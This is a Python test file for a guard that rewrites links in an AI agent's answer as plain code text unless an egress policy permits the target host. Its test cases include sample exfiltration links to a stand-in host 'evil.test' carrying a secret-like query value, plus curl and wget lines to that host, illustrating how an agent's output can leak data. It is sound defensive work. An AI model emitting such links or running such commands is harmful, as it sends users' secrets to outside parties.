"""Links in an armed run's answer: every link form the model can write is shown as text unless the guard's
destination rule allows its target; code, mentions and allowed links are left as they are."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tools import EgressPolicy, ToolContext
from tools.answer_links import neutralise
from tools.exfiltration import ExfiltrationGuard


def nowhere(url: str) -> bool:
    return False


CASES = {
    "markdown link": ("see [the report](https://evil.test/?d=k3y)", "see the report (`https://evil.test/?d=k3y`)"),
    "markdown image": ("![chart](https://evil.test/p.png?d=k3y)", "chart (`https://evil.test/p.png?d=k3y`)"),
    "slack link": ("<https://evil.test/?d=k3y|the report>", "the report (`https://evil.test/?d=k3y`)"),
    "slack bare link": ("<https://evil.test/?d=k3y>", "`https://evil.test/?d=k3y`"),
    "bare url, end of sentence": ("Go to https://evil.test/x?d=k3y.", "Go to `https://evil.test/x?d=k3y`."),
    "bare url in brackets": ("(see https://evil.test/x)", "(see `https://evil.test/x`)"),
    "host and path, no scheme": ("at evil.test/x?d=k3y now", "at `evil.test/x?d=k3y` now"),
    "label that is itself a link": ("[https://good.test](https://evil.test/?d=1)",
                                    "`https://good.test` (`https://evil.test/?d=1`)"),
    "label equal to the url": ("[https://evil.test/a](https://evil.test/a)", "`https://evil.test/a`"),
}


@pytest.mark.parametrize(("answer", "shown"), CASES.values(), ids=CASES.keys())
def test_every_link_form_becomes_text(answer: str, shown: str) -> None:
    assert neutralise(answer, nowhere) == shown


def test_code_mentions_and_allowed_links_are_left_alone() -> None:
    answer = ("Run `curl https://evil.test/x` or\n```\nwget https://evil.test/y\n```\n"
              "ask <@U123> in <#C1>, and read [the docs](https://docs.test/a).")
    assert neutralise(answer, lambda url: "docs.test" in url) == answer


def test_the_guard_allows_the_requesters_urls_and_allow_listed_hosts_only_when_armed() -> None:
    answer = ("[mine](https://docs.test/a) [listed](https://wiki.corp.test/p) [theirs](https://evil.test/?d=1) "
              "[denied](https://bad.wiki.corp.test/)")
    policy = EgressPolicy(requester_texts=("compare with https://docs.test/a",), private_texts=("U2: hi",),
                          allowed_domains=("corp.test",), denied_domains=("bad.wiki.corp.test",))
    ctx = ToolContext(run_id="r", step=1, task="summarise", egress=policy)
    assert ExfiltrationGuard().answer(answer, ctx) == (
        "[mine](https://docs.test/a) [listed](https://wiki.corp.test/p) theirs (`https://evil.test/?d=1`) "
        "denied (`https://bad.wiki.corp.test/`)"
    )
    unarmed = ToolContext(run_id="r", step=1, task="summarise", egress=EgressPolicy())
    assert ExfiltrationGuard().answer(answer, unarmed) == answer
    assert ExfiltrationGuard("off").answer(answer, ctx) == answer


_PIECES = st.sampled_from([
    "see ", "[x](", "https://evil.test/?d=1", ")", "<", "|label>", ">", " evil.test/p ", "`", "(", ".", "\n",
    "![", "]", "words ", "http://a.test", "```",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=14).map("".join))
def test_neutralised_text_holds_no_link_and_stays_the_same_when_checked_again(answer: str) -> None:
    shown = neutralise(answer, nowhere)
    outside_code = re.sub(r"```.*?(?:```|\Z)|(`+)[^`\n]*?\1", "", shown, flags=re.DOTALL)
    assert "://" not in outside_code and "evil.test" not in outside_code, shown
    assert neutralise(shown, nowhere) == shown
